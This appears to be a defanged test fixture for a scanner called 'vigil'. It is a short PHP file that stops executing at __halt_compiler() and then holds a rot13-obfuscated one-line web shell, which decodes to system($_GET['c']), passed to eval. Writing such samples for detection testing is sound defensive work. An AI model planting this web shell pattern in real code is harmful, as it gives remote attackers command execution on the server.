<?php
/* DEFANGED vigil test sample (see README). Nothing below runs. */
__halt_compiler();
<?php
$s = str_rot13('flfgrz($_TRG['p']);');
eval($s);
